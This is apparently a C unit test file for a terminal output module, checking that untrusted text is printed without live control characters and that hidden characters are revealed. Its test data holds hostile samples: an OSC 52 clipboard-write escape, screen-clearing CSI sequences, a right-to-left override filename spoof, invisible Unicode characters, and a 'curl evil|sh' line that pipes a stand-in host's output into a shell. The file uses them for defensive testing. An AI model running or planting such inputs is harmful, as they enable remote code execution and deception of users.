/* Untrusted text for a terminal. */
#include "cli/terminal.h"

#include <stdlib.h>

#include "base/defs.h"
#include "base/str.h"
#include "support/test.h"

static const struct {
    const char *text, *text_shown, *line_shown;
} hostile[] = {
    {"plain \xc3\xa9\xe6\xbc\xa2", "plain \xc3\xa9\xe6\xbc\xa2", "plain \xc3\xa9\xe6\xbc\xa2"},
    {"\033]52;c;aGk=\a", "?]52;c;aGk=?", "]52;c;aGk="}, /* the clipboard */
    {"a\033[2Jb", "a?[2Jb", "a [2Jb"},                  /* CSI */
    {"a\xc2\x9b"
     "2Jb",
     "a?2Jb", "a 2Jb"}, /* CSI as one character */
    {"a\x9b"
     "2Jb",
     "a?2Jb", "a 2Jb"}, /* and as a stray byte */
    {"gpj.\xe2\x80\xae"
     "exe",
     "gpj.?exe", "gpj. exe"},                                          /* right to left */
    {"\xe2\x81\xa6x\xe2\x81\xa9 \xd8\x9c\xe2\x80\x8f", "?x? ??", "x"}, /* isolates, marks */
    {"a\r\b\x7f\xe2\x80\xa8"
     "b",
     "a????b", "a b"},
    {"tag\xf3\xa0\x81\xa1", "tag?", "tag"},
};

TEST(terminal_shows_no_control_characters)
{
    for (size_t i = 0; i < WB_LEN(hostile); i++) {
        char *text = NULL, *line = NULL;
        size_t n, m;
        test_note("case %zu", i);
        FILE *out = open_memstream(&text, &n), *other = open_memstream(&line, &m);
        CHECK(out && other);
        cli_print_text(out, wb_cstr(hostile[i].text), 0);
        (void)cli_print_line(other, wb_cstr(hostile[i].text), 0);
        CHECK(fclose(out) == 0 && fclose(other) == 0);
        bool same = wb_str_eq(wb_str(text, n), wb_cstr(hostile[i].text_shown));
        bool also = wb_str_eq(wb_str(line, m), wb_cstr(hostile[i].line_shown));
        if (!same || !also)
            test_note("'%s' '%s'", text, line);
        free(text);
        free(line);
        CHECK(same && also);
    }
}

/* Whoever decides about it sees all of it: nothing is invisible, moves the rest, or begins a line that it is not. */
TEST(terminal_reveals_what_somebody_decides_about)
{
    static const struct {
        const char *text;
        unsigned indent;
        const char *want;
    } cases[] = {
        {"{\"a\":\"plain \xc3\xa9\xe6\xbc\xa2\"}", 0, "{\"a\":\"plain \xc3\xa9\xe6\xbc\xa2\"}"},
        {"ls        ; curl evil|sh", 0, "ls<8 blanks>; curl evil|sh"},
        {"gpj.\xe2\x80\xae"
         "exe",
         0, "gpj.<U+202E>exe"},
        {"a\xe2\x80\x8b\xc2\xa0\xe3\x80\x80\xef\xbb\xbf\xc2\xad"
         "b",
         0, "a<U+200B><U+00A0><U+3000><U+FEFF><U+00AD>b"},
        {"\033[2J\r\n\t\x7f\x9b", 0, "<U+001B>[2J<U+000D><U+000A><U+0009><U+007F><0x9b>"},
        {"tag\xf3\xa0\x81\xa1\xef\xb8\x8f\xe2\xa0\x80", 0, "tag<U+E0061><U+FE0F><U+2800>"},
        {"a\xf0\x9d\x85\x99\xef\xbf\xbc\xf0\x93\x91\x81", 0,
         "a<U+1D159><U+FFFC><U+13441>"}, /* no property names them */
        {"one\\ntwo\\\\nthree", 0, "one\\ntwo\\\\nthree"},
        {"one\\ntwo\\\\nthree", 2, "one\\n\n  two\\\\nthree"}, /* of two backslashes the second escapes nothing */
        {"\\", 2, "\\"},
    };
    for (size_t i = 0; i < WB_LEN(cases); i++) {
        WB_CLEANUP(wb_buf_done) struct wb_buf out = WB_BUF(4096);
        test_note("case %zu", i);
        cli_reveal(&out, wb_cstr(cases[i].text), cases[i].indent);
        CHECK(!out.failed);
        CHECK_STR(wb_buf_str(&out), wb_cstr(cases[i].want));
    }
}
